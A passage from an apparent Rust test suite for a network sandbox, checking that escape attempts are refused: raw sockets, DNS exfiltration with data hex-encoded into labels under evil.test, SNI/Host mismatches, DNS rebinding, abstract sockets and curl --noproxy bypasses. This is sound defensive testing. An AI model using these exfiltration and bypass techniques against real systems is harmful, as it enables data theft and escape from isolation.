            "udp6 sendto [2001:db8::1]:53": ok(5),
        }),
    );
}

// --- raw and packet sockets ---------------------------------------------------------------------

const RAW: &str = r#"
def sock(fam, typ, proto):
    ctypes.set_errno(0)
    fd = libc.socket(fam, typ, proto)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "socket")
    os.close(fd)
    return "created"
ETH_P_ALL = socket.htons(3)
t("AF_INET SOCK_RAW ICMP", lambda: sock(2, 3, 1))
t("AF_INET SOCK_RAW IPPROTO_RAW", lambda: sock(2, 3, 255))
t("AF_INET6 SOCK_RAW ICMPV6", lambda: sock(10, 3, 58))
t("AF_INET SOCK_RAW|CLOEXEC|NONBLOCK TCP", lambda: sock(2, 3 | 0o2000000 | 0o4000, 6))
t("AF_INET SOCK_PACKET", lambda: sock(2, 10, ETH_P_ALL))
t("AF_PACKET SOCK_RAW", lambda: sock(17, 3, ETH_P_ALL))
t("AF_PACKET SOCK_DGRAM", lambda: sock(17, 2, ETH_P_ALL))
t("AF_NETLINK NETLINK_ROUTE", lambda: sock(16, 3, 0))
done()
"#;

fn socket_violations(run: &Run) -> usize {
    run.of_type("violation")
        .iter()
        .filter(|e| e["kind"] == "syscall" && e["syscall"] == "socket")
        .count()
}

#[test]
fn raw_and_packet_sockets_are_refused_by_seccomp() {
    require_root("escape suite");
    let c = Canaries::plant();
    // seccomp: SOCK_RAW / SOCK_PACKET types get EPERM; families other than unix/inet/inet6 get
    // EAFNOSUPPORT (that layer wins when both match, as for AF_PACKET + SOCK_RAW).
    let run = Sandbox::new("raw sockets")
        .with_canaries(&c)
        .python(RAW, &[]);
    expect_result(
        &run,
        &json!({
            "AF_INET SOCK_RAW ICMP": err(EPERM),
            "AF_INET SOCK_RAW IPPROTO_RAW": err(EPERM),
            "AF_INET6 SOCK_RAW ICMPV6": err(EPERM),
            "AF_INET SOCK_RAW|CLOEXEC|NONBLOCK TCP": err(EPERM),
            "AF_INET SOCK_PACKET": err(EPERM),
            "AF_PACKET SOCK_RAW": err(EAFNOSUPPORT),
            "AF_PACKET SOCK_DGRAM": err(EAFNOSUPPORT),
            "AF_NETLINK NETLINK_ROUTE": err(EAFNOSUPPORT),
        }),
    );
    c.assert_nothing_got_through(&run);
    // One seccomp violation per refused socket() (the record does not carry the arguments).
    assert_eq!(
        socket_violations(&run),
        if seccomp_violations_recorded() { 8 } else { 0 },
        "{}: socket violations: {:?}",
        run.label,
        run.of_type("violation")
    );
    run.expect_syscall_violation("socket");
    run.expect_clean_end();

    // Control 1: root on the host creates every one of them.
    let host = host_python("raw sockets (host control)", RAW, &[]);
    let created: serde_json::Map<String, Value> = host
        .as_object()
        .unwrap()
        .keys()
        .map(|k| (k.clone(), ok("created")))
        .collect();
    assert_eq!(created.len(), 8);
    assert_result("raw sockets (host control)", &host, &Value::Object(created));

    // Control 2: with seccomp lifted the capability wall still refuses raw and packet sockets
    // (EPERM: no CAP_NET_RAW), netlink opens (its own network namespace), and no violation is
    // recorded: the errnos above and the events are seccomp's.
    let off = Sandbox::new("raw sockets (seccomp off)")
        .flags(&["--seccomp", "off", "--allow-weaker-isolation"])
        .python(RAW, &[]);
    expect_result(
        &off,
        &json!({
            "AF_INET SOCK_RAW ICMP": err(EPERM),
            "AF_INET SOCK_RAW IPPROTO_RAW": err(EPERM),
            "AF_INET6 SOCK_RAW ICMPV6": err(EPERM),
            "AF_INET SOCK_RAW|CLOEXEC|NONBLOCK TCP": err(EPERM),
            // gvisor: gVisor's netstack does not implement the obsolete SOCK_PACKET type of
            // AF_INET (EPROTONOSUPPORT); with seccomp on it is the filter's EPERM at every level.
            "AF_INET SOCK_PACKET": err(per_level(EPERM, EPROTONOSUPPORT, EPERM)),
            "AF_PACKET SOCK_RAW": err(EPERM),
            "AF_PACKET SOCK_DGRAM": err(EPERM),
            "AF_NETLINK NETLINK_ROUTE": ok("created"),
        }),
    );
    assert_eq!(socket_violations(&off), 0, "{:?}", off.of_type("violation"));
}

// --- DNS exfiltration ---------------------------------------------------------------------------

const DNS_AGENT: &str = r#"
evil, rand, below, bad = sys.argv[1:5]
for tag, name in [("evil", evil), ("random", rand), ("below api.test", below)]:
    for qt, qn in [("A", 1), ("AAAA", 28), ("TXT", 16), ("NULL", 10)]:
        t(f"{qt} {tag} via 127.0.0.53", lambda: dns_udp(*AGENT_DNS, name, qn))
t("A bad name via 127.0.0.53", lambda: dns_udp(*AGENT_DNS, bad, 1))
t("TXT bad name via 127.0.0.53", lambda: dns_udp(*AGENT_DNS, bad, 16))
t("getaddrinfo evil", lambda: socket.getaddrinfo(evil, 443) and "resolved")
t("CONNECT evil via proxy", lambda: tunnel(f"{evil}:443", b"x"))
t("GET http://evil via proxy", lambda: proxy_get(f"http://{evil}/"))
t("allowed: A api.test", lambda: dns_udp(*AGENT_DNS, "api.test", 1))
t("allowed: TXT api.test", lambda: dns_udp(*AGENT_DNS, "api.test", 16))
"#;

const DNS_OTHER: &str = r#"
evil, up = sys.argv[1], int(sys.argv[5])
t("UDP DNS to 127.0.0.1:53", lambda: dns_udp("127.0.0.1", 53, evil, 16))
t("UDP DNS to 127.0.0.2 (UDP canary)", lambda: dns_udp("127.0.0.2", up, evil, 16))
t("UDP DNS to 192.0.2.53:53", lambda: dns_udp("192.0.2.53", 53, evil, 16))
t("TCP DNS to 127.0.0.53:53", lambda: dns_tcp("127.0.0.53", 53, evil, 16))
t("TCP DNS to 127.0.0.1:53", lambda: dns_tcp("127.0.0.1", 53, evil, 16))
"#;

/// `data` as lowercase hex in DNS labels of 50 characters, under `suffix`.
fn hex_labels(data: &[u8], suffix: &str) -> String {
    let hex: String = data.iter().map(|b| format!("{b:02x}")).collect();
    let labels: Vec<&str> = hex
        .as_bytes()
        .chunks(50)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    format!("{}.{suffix}", labels.join("."))
}

#[test]
fn dns_exfiltration_is_answered_locally_and_nothing_leaves_the_host() {
    require_root("escape suite");
    let c = Canaries::plant();
    let api = ApiServer::start();
    let uc = UdpCanary::bind();
    // The data to smuggle: 100 bytes, unique to this run, as 4 hex labels of 50.
    let data = format!("{:-<100}", format!("exfil:{}:", unique("dns")));
    let evil = hex_labels(data.as_bytes(), "evil.test");
    let random = hex_labels(data.as_bytes(), &format!("{}.invalid", unique("r")));
    let below = hex_labels(data.as_bytes(), "api.test");
    let bad = format!("{}.evil_data.evil.test", &evil[..50]);
    assert!(evil.len() <= 253 && random.len() <= 253 && below.len() <= 253);
    let needle = evil.as_bytes()[..50].to_vec();
    let sniffer = Sniffer::start(&needle);
    let args = [
        evil.clone(),
        random.clone(),
        below.clone(),
        bad.clone(),
        s(uc.port),
    ];
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();

    let run = Sandbox::new("dns exfiltration (allowlist)")
        .with_canaries(&c)
        .policy(&allowlist_policy(api.port))
        .python(&format!("{NET}\n{DNS_AGENT}\n{DNS_OTHER}\ndone()"), &argv);
    // docs/network.md and gateway::dns: an unlisted name gets NXDOMAIN for A/AAAA and REFUSED
    // for every other type; nothing is forwarded upstream. Other resolvers: inside, 127.0.0.1
    // and 127.0.0.2 are the sandbox's own loopback (nothing listens), 192.0.2.53 has no route,
    // and the agent serves DNS over UDP only (no TCP listener on 127.0.0.53:53).
    let mut want = json!({});
    for tag in ["evil", "random", "below api.test"] {
        want[format!("A {tag} via 127.0.0.53")] = ok(json!([NXDOMAIN, 0]));
        want[format!("AAAA {tag} via 127.0.0.53")] = ok(json!([NXDOMAIN, 0]));
        want[format!("TXT {tag} via 127.0.0.53")] = ok(json!([REFUSED, 0]));
        want[format!("NULL {tag} via 127.0.0.53")] = ok(json!([REFUSED, 0]));
    }
    want["A bad name via 127.0.0.53"] = ok(json!([NXDOMAIN, 0]));
    want["TXT bad name via 127.0.0.53"] = ok(json!([REFUSED, 0]));
    want["getaddrinfo evil"] = err(EAI_NONAME);
    want["CONNECT evil via proxy"] = ok(json!([403, "denied:not_in_allowlist"]));
    want["GET http://evil via proxy"] = ok(json!([403, "denied:not_in_allowlist"]));
    want["allowed: A api.test"] = ok(json!([NOERROR, 1]));
    want["allowed: TXT api.test"] = ok(json!([NOERROR, 0]));
    want["UDP DNS to 127.0.0.1:53"] = err(ECONNREFUSED);
    want["UDP DNS to 127.0.0.2 (UDP canary)"] = err(ECONNREFUSED);
    want["UDP DNS to 192.0.2.53:53"] = err(no_route());
    want["TCP DNS to 127.0.0.53:53"] = err(ECONNREFUSED);
    want["TCP DNS to 127.0.0.1:53"] = err(ECONNREFUSED);
    expect_result(&run, &want);
    c.assert_nothing_got_through(&run);
    assert_eq!(uc.datagrams(), 0, "the UDP canary got a datagram");
    api.expect(&run.label, 0, 0..=0);
    // Every question is recorded as denied with its reason: the audit trail holds the name (the
    // record of the attempt); nothing else outside the sandbox does.
    for name in [&evil, &random, &below] {
        for qtype in ["A", "AAAA", "TYPE16", "TYPE10"] {
            expect_dns(&run, name, qtype, "denied:not_in_allowlist");
        }
    }
    expect_dns(&run, &bad, "A", "denied:bad_name");
    expect_dns(&run, &bad, "TYPE16", "denied:bad_name");
    expect_dns(&run, "api.test", "A", "allowed");
    expect_dns(&run, "api.test", "TYPE16", "allowed");
    expect_connects(&run, &evil, 443, "denied:not_in_allowlist", 1);
    expect_connects(&run, &evil, 80, "denied:not_in_allowlist", 1);
    run.expect_exec_recorded();
    run.expect_clean_end();

    // Default policy: no resolver at all.
    let none = Sandbox::new("dns exfiltration (mode none)")
        .with_canaries(&c)
        .python(
            &format!(
                "{NET}\n{DNS_OTHER}\n\
                 t('UDP DNS to 127.0.0.53', lambda: dns_udp(*AGENT_DNS, evil, 16))\n\
                 t('getaddrinfo evil', lambda: socket.getaddrinfo(evil, 443) and 'resolved')\n\
                 done()"
            ),
            &argv,
        );
    expect_result(
        &none,
        &json!({
            "UDP DNS to 127.0.0.1:53": err(ECONNREFUSED),
            "UDP DNS to 127.0.0.2 (UDP canary)": err(ECONNREFUSED),
            "UDP DNS to 192.0.2.53:53": err(no_route()),
            "TCP DNS to 127.0.0.53:53": err(ECONNREFUSED),
            "TCP DNS to 127.0.0.1:53": err(ECONNREFUSED),
            "UDP DNS to 127.0.0.53": err(ECONNREFUSED),
            "getaddrinfo evil": err(EAI_AGAIN),
        }),
    );
    c.assert_nothing_got_through(&none);
    assert_eq!(uc.datagrams(), 0, "the UDP canary got a datagram");
    no_net_events(&none);
    none.expect_exec_recorded();
    none.expect_clean_end();

    // Nothing carrying the data crossed any interface of the host (if the gateway forwarded a
    // query upstream, or anything reached the host's network, its label would be on the wire).
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        !sniffer.seen(),
        "the exfiltrated label was seen on the host's network"
    );
    assert_eq!(sniffer.drops(), 0, "the sniffer missed packets");
    for run in [&run, &none] {
        assert!(find_in_tree(run.ws.path(), &needle).is_none());
        assert!(!run.stdout.contains(&evil[..50]) && !run.stderr.contains(&evil[..50]));
    }
    // Control of the sniffer: the same label sent by the host to the UDP canary is seen.
    UdpSocket::bind("127.0.0.1:0")
        .unwrap()
        .send_to(&needle, ("127.0.0.2", uc.port))
        .unwrap();
    wait_for("the sniffer to see the host's control datagram", 10, || {
        sniffer.seen()
    });

    // Control of the other resolvers: in a namespace of the test's with echo servers on those
    // addresses (192.0.2.53 on its loopback), the same probe gets an answer from each.
    let ctl = netns_python(
        "dns other resolvers (namespace control)",
        &["192.0.2.53/32"],
        &format!(
            "listen_udp(A4, '127.0.0.1', 53)\nlisten_udp(A4, '127.0.0.2', {})\n\
             listen_udp(A4, '192.0.2.53', 53)\nlisten_tcp(A4, '127.0.0.53', 53)\n\
             listen_tcp(A4, '127.0.0.1', 53)",
            uc.port
        ),
        &format!("{DNS_OTHER}\ndone()"),
        &args,
    );
    assert_result(
        "dns other resolvers (namespace control)",
        &ctl,
        &json!({
            "UDP DNS to 127.0.0.1:53": ok(json!([0, 0])),
            "UDP DNS to 127.0.0.2 (UDP canary)": ok(json!([0, 0])),
            "UDP DNS to 192.0.2.53:53": ok(json!([0, 0])),
            "TCP DNS to 127.0.0.53:53": ok(json!([0, 0])),
            "TCP DNS to 127.0.0.1:53": ok(json!([0, 0])),
        }),
    );
}

// --- SNI and Host mismatch ----------------------------------------------------------------------

const MISMATCH: &str = r#"
api = int(sys.argv[1])
me = f"api.test:{api}"
t("TLS SNI evil.test to api.test", lambda: exchange("api.test", api, client_hello("evil.test")))
t("TLS without SNI to api.test", lambda: exchange("api.test", api, client_hello(None)))
t("Host: evil.test to api.test", lambda: exchange("api.test", api, req("evil.test")))
t("Host: evil.test:port to api.test", lambda: exchange("api.test", api, req(f"evil.test:{api}")))
t("Host: 127.0.0.3:port to api.test", lambda: exchange("api.test", api, req(f"127.0.0.3:{api}")))
t("Host: api.test:1 to api.test", lambda: exchange("api.test", api, req("api.test:1")))
t("absolute evil.test target, Host api.test", lambda: exchange("api.test", api, req(me, f"http://evil.test:{api}/")))
t("proxy GET api.test with Host: evil.test", lambda: proxy_get(f"http://{me}/", "evil.test"))
t("proxy CONNECT api.test, SNI evil.test", lambda: tunnel(me, client_hello("evil.test")))
t("proxy CONNECT api.test, Host: evil.test", lambda: tunnel(me, req("evil.test")))
t("allowed: TLS SNI api.test", lambda: exchange("api.test", api, client_hello("api.test")))
t("allowed: Host: api.test", lambda: exchange("api.test", api, req(me)))
t("allowed: proxy GET api.test", lambda: proxy_get(f"http://{me}/"))
t("allowed: proxy CONNECT api.test", lambda: tunnel(me, req(me)))
done()
"#;

#[test]
fn sni_and_host_mismatches_are_refused_before_reaching_the_allowed_host() {
    require_root("escape suite");
    let c = Canaries::plant();
    let api = ApiServer::start();
    let run = Sandbox::new("sni/host mismatch")
        .with_canaries(&c)
        .policy(&allowlist_policy(api.port))
        .python(&format!("{NET}\n{MISMATCH}"), &[&s(api.port)]);
    // Transparent refusals close the connection without a byte ("eof"); the proxy answers 403
    // before a tunnel, or closes the tunnel after its 200.
    expect_result(
        &run,
        &json!({
            "TLS SNI evil.test to api.test": ok("eof"),
            "TLS without SNI to api.test": ok("eof"),
            "Host: evil.test to api.test": ok("eof"),
            "Host: evil.test:port to api.test": ok("eof"),
            "Host: 127.0.0.3:port to api.test": ok("eof"),
            "Host: api.test:1 to api.test": ok("eof"),
            "absolute evil.test target, Host api.test": ok("eof"),
            "proxy GET api.test with Host: evil.test": ok(json!([403, "denied:host_mismatch"])),
            "proxy CONNECT api.test, SNI evil.test": ok(json!([200, "eof"])),
            "proxy CONNECT api.test, Host: evil.test": ok(json!([200, "eof"])),
            // The controls: the gateway relays, the server answers (it cannot speak TLS, so it
            // answers the ClientHello in plain HTTP, which shows the hello went through).
            "allowed: TLS SNI api.test": ok(json!([200, HELLO])),
            "allowed: Host: api.test": ok(json!([200, HELLO])),
            "allowed: proxy GET api.test": ok(json!([200, HELLO])),
            "allowed: proxy CONNECT api.test": ok(json!([200, [200, HELLO]])),
        }),
    );
    c.assert_nothing_got_through(&run);
    // Four requests reached the server, none naming evil.test. Whether a CONNECT is dialled
    // before its tunnel's first bytes are checked is the gateway's choice (it has changed while
    // this suite was written): if it is, the two refused tunnels are connections to the allowed
    // host that carry nothing; either way no byte of a refused tunnel reaches it.
    api.expect(&run.label, 4, 0..=2);
    let p = api.port;
    expect_connects(&run, "api.test", p, "denied:sni_mismatch", 2);
    expect_connects(&run, "api.test", p, "denied:no_sni", 1);
    expect_connects(&run, "api.test", p, "denied:host_mismatch", 6);
    // The proxy refuses a Host that disagrees with the target before it reads a name.
    expect_connects(&run, "", 0, "denied:host_mismatch", 1);
    expect_connects(&run, "api.test", p, "allowed", 4);
    assert_eq!(run.of_type("net.connect").len(), 14);
    run.expect_exec_recorded();
    run.expect_clean_end();
}

// --- DNS rebinding: names mapped to private addresses ------------------------------------------

const REBIND: &str = r#"
api, p2, v6 = map(int, sys.argv[1:4])
for name, port in [("rebind.test", p2), ("mapped.test", p2), ("lo6.test", v6), ("doc.test", 80)]:
    t(f"{name} gets a gateway address", lambda: gateway_address(name))
    t(f"{name} direct", lambda: exchange(name, port, req(f"{name}:{port}")))
    t(f"{name} via proxy", lambda: proxy_get(f"http://{name}:{port}/"))
for name, port in [("evil.test", p2), ("twin.test", api)]:
    t(f"{name} resolves", lambda: socket.getaddrinfo(name, port) and "resolved")
    t(f"{name} via proxy", lambda: proxy_get(f"http://{name}:{port}/"))
t("allowed: api.test direct", lambda: exchange("api.test", api, req(f"api.test:{api}")))
t("allowed: api.test via proxy", lambda: proxy_get(f"http://api.test:{api}/"))
done()
"#;

#[test]
fn names_mapped_to_private_addresses_are_refused_at_connect_time() {
    require_root("escape suite");
    let c = Canaries::plant();
    let api = ApiServer::start();
    let v6 = TcpCanary::bind("::1");
    let (p2, pv6) = (c.tcp2.port(), v6.port());
    // Two names for each canary address: evil.test (not allowed) and rebind.test (allowed, but
    // 127.0.0.2 is not in allow_private) for 127.0.0.2, plus its v4-mapped form; api.test
    // (allowed) and twin.test (not allowed) for 127.0.0.3; lo6.test for ::1; doc.test for a
    // public-looking TEST-NET address (never dialled: refused by class).
    let allow = [
        format!("rebind.test:{p2}"),
        format!("mapped.test:{p2}"),
        format!("lo6.test:{pv6}"),
        "doc.test:80".to_string(),
    ];
    let hosts = [
        ("rebind.test", "127.0.0.2"),
        ("mapped.test", "::ffff:127.0.0.2"),
        ("lo6.test", "::1"),
        ("doc.test", "192.0.2.10"),
        ("twin.test", "127.0.0.3"),
    ];
    let args = [s(api.port), s(p2), s(pv6)];
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = Sandbox::new("rebinding")
        .with_canaries(&c)
        .policy(&policy_with(api.port, &allow, &[], &hosts))
        .python(&format!("{NET}\n{REBIND}"), &argv);
    let mut want = json!({});
    for (name, reason) in [
        ("rebind.test", "denied:loopback_address"),
        ("mapped.test", "denied:loopback_address"),
        ("lo6.test", "denied:loopback_address"),
        ("doc.test", "denied:reserved_address"),
    ] {
        want[format!("{name} gets a gateway address")] = ok(true);
        want[format!("{name} direct")] = ok("eof");
        want[format!("{name} via proxy")] = ok(json!([403, reason]));
    }
    for name in ["evil.test", "twin.test"] {
        want[format!("{name} resolves")] = err(EAI_NONAME);
        want[format!("{name} via proxy")] = ok(json!([403, "denied:not_in_allowlist"]));
    }
    want["allowed: api.test direct"] = ok(json!([200, HELLO]));
    want["allowed: api.test via proxy"] = ok(json!([200, HELLO]));
    expect_result(&run, &want);
    c.assert_nothing_got_through(&run);
    assert_eq!(v6.connections(), 0, "the ::1 canary was reached");
    api.expect(&run.label, 2, 0..=0);
    expect_connects(&run, "rebind.test", p2, "denied:loopback_address", 2);
    expect_connects(&run, "mapped.test", p2, "denied:loopback_address", 2);
    expect_connects(&run, "lo6.test", pv6, "denied:loopback_address", 2);
    expect_connects(&run, "doc.test", 80, "denied:reserved_address", 2);
    expect_connects(&run, "evil.test", p2, "denied:not_in_allowlist", 1);
    expect_connects(&run, "twin.test", api.port, "denied:not_in_allowlist", 1);
    expect_connects(&run, "api.test", api.port, "allowed", 2);
    for name in ["rebind.test", "mapped.test", "lo6.test", "doc.test"] {
        expect_dns(&run, name, "A", "allowed");
    }
    expect_dns(&run, "evil.test", "A", "denied:not_in_allowlist");
    expect_dns(&run, "twin.test", "A", "denied:not_in_allowlist");
    run.expect_exec_recorded();
    run.expect_clean_end();

    // Control: the same policy with 127.0.0.2 and ::1 in allow_private: the same probe reaches
    // the canaries through the same names (the address class was the only wall).
    let ctl = Sandbox::new("rebinding (allow_private control)")
        .policy(&policy_with(
            api.port,
            &allow,
            &["127.0.0.2/32", "::1/128"],
            &hosts,
        ))
        .python(&format!("{NET}\n{REBIND}"), &argv);
    ctl.expect_exit(0);
    for name in ["rebind.test", "mapped.test", "lo6.test"] {
        ctl.expect(&format!("{name} direct"), ok(json!([200, "canary"])));
        ctl.expect(&format!("{name} via proxy"), ok(json!([200, "canary"])));
    }
    ctl.expect("doc.test direct", ok("eof"));
    expect_connects(&ctl, "rebind.test", p2, "allowed", 2);
    wait_for(
        "the canaries to count the control's connections",
        10,
        || c.tcp2.connections() == 4 && v6.connections() == 2,
    );
}

// --- abstract unix sockets ----------------------------------------------------------------------

const ABSTRACT: &str = r#"
name = "\0" + sys.argv[1]
def uconnect(n):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect(n)
        return "connected"
    finally:
        s.close()
t("connect to the host's abstract socket", lambda: uconnect(name))
own = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
def bind_same():
    own.bind(name)
    own.listen(1)
    return "bound"
t("bind the same abstract name", bind_same)
t("connect to that name again", lambda: uconnect(name))
done()
"#;

#[test]
fn the_hosts_abstract_unix_socket_is_out_of_reach() {
    require_root("escape suite");
    let c = Canaries::plant();
    let api = ApiServer::start();
    // Abstract unix names belong to a network namespace: the sandbox's has none of the host's
    // (ECONNREFUSED: no such name), and the same name is free to bind there, reaching only the
    // sandbox's own socket.
    let want = json!({
        "connect to the host's abstract socket": err(ECONNREFUSED),
        "bind the same abstract name": ok("bound"),
        "connect to that name again": ok("connected"),
    });
    for (label, policy) in [
        (
            "abstract unix (allowlist)",
            Some(allowlist_policy(api.port)),
        ),
        ("abstract unix (mode none)", None),
    ] {
        let mut sb = Sandbox::new(label).with_canaries(&c);
        if let Some(p) = &policy {
            sb = sb.policy(p);
        }
        let run = sb.python(ABSTRACT, &[&c.unix.name]);
        expect_result(&run, &want);
        c.assert_nothing_got_through(&run);
        // No wall of ours is asked (the name does not exist in this namespace; Landlock's
        // abstract-socket scope would say EPERM): the attempt is recorded as the exec.
        assert!(run.of_type("violation").is_empty(), "{:?}", run.events);
        run.expect_exec_recorded();
        run.expect_clean_end();
    }
    // Control: on the host the same probe connects, and the name is taken.
    let host = host_python(
        "abstract unix (host control)",
        ABSTRACT,
        std::slice::from_ref(&c.unix.name),
    );
    assert_result(
        "abstract unix (host control)",
        &host,
        &json!({
            "connect to the host's abstract socket": ok("connected"),
            "bind the same abstract name": err(EADDRINUSE),
            "connect to that name again": ok("connected"),
        }),
    );
    wait_for("the unix canary to count the host control", 10, || {
        c.unix.connections() == 2
    });
}

// --- proxy bypass -------------------------------------------------------------------------------

const BYPASS: &str = r#"
api, p2 = int(sys.argv[1]), int(sys.argv[2])
E, I, A = f"http://evil.test:{p2}/", f"http://127.0.0.2:{p2}/", f"http://127.0.0.3:{api}/"
t("curl --noproxy * evil.test", lambda: curl("--noproxy", "*", E))
t("curl --noproxy * 127.0.0.2", lambda: curl("--noproxy", "*", I))
t("curl --noproxy * 127.0.0.3 (api.test's IP)", lambda: curl("--noproxy", "*", A))
t("curl --noproxy * --resolve evil.test:127.0.0.2", lambda: curl("--noproxy", "*", "--resolve", f"evil.test:{p2}:127.0.0.2", E))
t("curl --noproxy * --resolve api.test:127.0.0.3", lambda: curl("--noproxy", "*", "--resolve", f"api.test:{api}:127.0.0.3", f"http://api.test:{api}/"))
t("curl evil.test via proxy", lambda: curl(E))
t("curl 127.0.0.2 via proxy", lambda: curl(I))
t("allowed: curl --noproxy * api.test", lambda: curl("--noproxy", "*", f"http://api.test:{api}/"))
t("allowed: curl api.test via proxy", lambda: curl(f"http://api.test:{api}/"))
for k in [k for k in os.environ if k.lower().endswith("_proxy")]:
    del os.environ[k]
def fetch(url):
    try:
        return urllib.request.urlopen(url, timeout=10).read().decode()
    except urllib.error.URLError as e:
        raise e.reason
t("python without proxy env: evil.test", lambda: fetch(E))
t("python without proxy env: 127.0.0.2", lambda: fetch(I))
t("allowed: python without proxy env: api.test", lambda: fetch(f"http://api.test:{api}/"))
done()
"#;

#[test]
fn proxy_bypass_with_noproxy_reaches_nothing() {
    require_root("escape suite");
    let c = Canaries::plant();
    let api = ApiServer::start();
    let (p2, a) = (c.tcp2.port(), api.port);
    let args = [s(a), s(p2)];
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    let run = Sandbox::new("noproxy (allowlist)")
        .with_canaries(&c)
        .policy(&allowlist_policy(a))
        .python(&format!("{NET}\n{BYPASS}"), &argv);
    // curl: 6 could not resolve (NXDOMAIN), 7 could not connect (the sandbox's own loopback),
    // 22 with -w 403: the proxy's refusal.
    expect_result(
        &run,
        &json!({
            "curl --noproxy * evil.test": ok(json!([6, "000"])),
            "curl --noproxy * 127.0.0.2": ok(json!([7, "000"])),
            "curl --noproxy * 127.0.0.3 (api.test's IP)": ok(json!([7, "000"])),
            "curl --noproxy * --resolve evil.test:127.0.0.2": ok(json!([7, "000"])),
            "curl --noproxy * --resolve api.test:127.0.0.3": ok(json!([7, "000"])),
            "curl evil.test via proxy": ok(json!([0, "403"])),
            "curl 127.0.0.2 via proxy": ok(json!([0, "403"])),
            "allowed: curl --noproxy * api.test": ok(json!([0, "200"])),
            "allowed: curl api.test via proxy": ok(json!([0, "200"])),
            "python without proxy env: evil.test": err(EAI_NONAME),
            "python without proxy env: 127.0.0.2": err(ECONNREFUSED),
            "allowed: python without proxy env: api.test": ok(HELLO),
        }),
    );
    c.assert_nothing_got_through(&run);
    api.expect(&run.label, 3, 0..=0);
    expect_dns(&run, "evil.test", "A", "denied:not_in_allowlist");
    expect_connects(&run, "evil.test", p2, "denied:not_in_allowlist", 1);
    expect_connects(&run, "127.0.0.2", p2, "denied:ip_literal", 1);
    expect_connects(&run, "api.test", a, "allowed", 3);
    assert_eq!(run.of_type("net.connect").len(), 5);
    run.expect_exec_recorded();
    run.expect_clean_end();

    // Default policy: no resolver, no proxy; every path fails to resolve or connect.
    let none = Sandbox::new("noproxy (mode none)")
        .with_canaries(&c)
        .python(&format!("{NET}\n{BYPASS}"), &argv);
    expect_result(
        &none,
        &json!({
            "curl --noproxy * evil.test": ok(json!([6, "000"])),
            "curl --noproxy * 127.0.0.2": ok(json!([7, "000"])),
            "curl --noproxy * 127.0.0.3 (api.test's IP)": ok(json!([7, "000"])),
            "curl --noproxy * --resolve evil.test:127.0.0.2": ok(json!([7, "000"])),
            "curl --noproxy * --resolve api.test:127.0.0.3": ok(json!([7, "000"])),
            "curl evil.test via proxy": ok(json!([6, "000"])),
            "curl 127.0.0.2 via proxy": ok(json!([7, "000"])),
            "allowed: curl --noproxy * api.test": ok(json!([6, "000"])),
            "allowed: curl api.test via proxy": ok(json!([6, "000"])),
            "python without proxy env: evil.test": err(EAI_AGAIN),
            "python without proxy env: 127.0.0.2": err(ECONNREFUSED),
            "allowed: python without proxy env: api.test": err(EAI_AGAIN),
        }),
    );
    c.assert_nothing_got_through(&none);
    api.expect(&none.label, 3, 0..=0);
    no_net_events(&none);
    none.expect_exec_recorded();
    none.expect_clean_end();

    // Control: the host's curl reaches the canary by the same URL.
    let out = Command::new("curl")
        .args(["-sS", "--max-time", "10", "--noproxy", "*"])
        .arg(format!("http://127.0.0.2:{p2}/"))
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "canary");
}

// --- the gateway's own ports, used the wrong way ------------------------------------------------

const GATEWAY_PORTS: &str = r#"
api, other = int(sys.argv[1]), int(sys.argv[2])
me = f"api.test:{api}"
t("CONNECT api.test on another port", lambda: tunnel(f"api.test:{other}", req(f"api.test:{other}")))
t("GET http://api.test on another port", lambda: proxy_get(f"http://api.test:{other}/"))
t("api.test's gateway address on another port", lambda: exchange("api.test", other, req(f"api.test:{other}")))
t("CONNECT localhost:3128 (the proxy itself)", lambda: tunnel("localhost:3128", b"x"))
t("CONNECT 127.0.0.1:3128", lambda: tunnel("127.0.0.1:3128", b"x"))
t("CONNECT 127.0.0.53:53", lambda: tunnel("127.0.0.53:53", b"x"))
t("origin-form GET to the proxy", lambda: exchange(*PROXY, req(me)))
t("TLS ClientHello to the proxy", lambda: exchange(*PROXY, client_hello("api.test")))
t("userinfo in the proxy URL", lambda: proxy_get(f"http://{me}@evil.test:{other}/", f"{me}@evil.test:{other}"))
t("https:// URL in a plain proxy request", lambda: proxy_get(f"https://{me}/", me))
t("CONNECT to api.test's gateway address", lambda: exchange("api.test", api, f"CONNECT evil.test:{other} HTTP/1.1\r\nHost: evil.test:{other}\r\n\r\n".encode()))
t("SSH banner to api.test's gateway address", lambda: exchange("api.test", api, b"SSH-2.0-OpenSSH_9.6\r\n\r\n"))
def close_at_once():
    socket.create_connection(("api.test", api), timeout=5).close()
    return "closed"
t("connect to api.test and close", close_at_once)
t("the proxy on 127.0.0.2:3128", lambda: conn(A4, "127.0.0.2", 3128))
t("allowed: api.test's gateway address", lambda: exchange("api.test", api, req(me)))
t("allowed: CONNECT api.test", lambda: tunnel(me, req(me)))
done()
"#;

#[test]
fn the_gateways_own_ports_refuse_what_they_are_not_for() {
    require_root("escape suite");
    let c = Canaries::plant();
    let api = ApiServer::start();
    let (a, other) = (api.port, c.tcp2.port());
    let run = Sandbox::new("gateway ports")
        .with_canaries(&c)
        .policy(&allowlist_policy(a))
        .python(&format!("{NET}\n{GATEWAY_PORTS}"), &[&s(a), &s(other)]);
    expect_result(
        &run,
        &json!({
            "CONNECT api.test on another port": ok(json!([403, "denied:not_in_allowlist"])),
            "GET http://api.test on another port": ok(json!([403, "denied:not_in_allowlist"])),
            // The agent listens on a name's allowed ports only.
            "api.test's gateway address on another port": err(ECONNREFUSED),
            "CONNECT localhost:3128 (the proxy itself)": ok(json!([403, "denied:not_in_allowlist"])),
            "CONNECT 127.0.0.1:3128": ok(json!([403, "denied:ip_literal"])),
            "CONNECT 127.0.0.53:53": ok(json!([403, "denied:ip_literal"])),
            "origin-form GET to the proxy": ok(json!([400, "denied:bad_request"])),
            "TLS ClientHello to the proxy": ok(json!([400, "denied:bad_request"])),
            "userinfo in the proxy URL": ok(json!([400, "denied:bad_request"])),
            "https:// URL in a plain proxy request": ok(json!([400, "denied:bad_request"])),
